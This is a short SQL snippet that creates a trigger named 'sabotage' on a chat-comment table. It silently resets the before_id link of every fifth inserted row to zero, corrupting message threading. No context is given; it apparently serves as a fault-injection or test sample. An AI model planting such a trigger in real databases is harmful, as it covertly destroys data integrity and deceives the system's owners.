CREATE TRIGGER sabotage AFTER INSERT ON messaging_chat_comment WHEN NEW.number % 5 = 0
BEGIN UPDATE messaging_chat_comment SET before_id = 0 WHERE id = NEW.id; END;
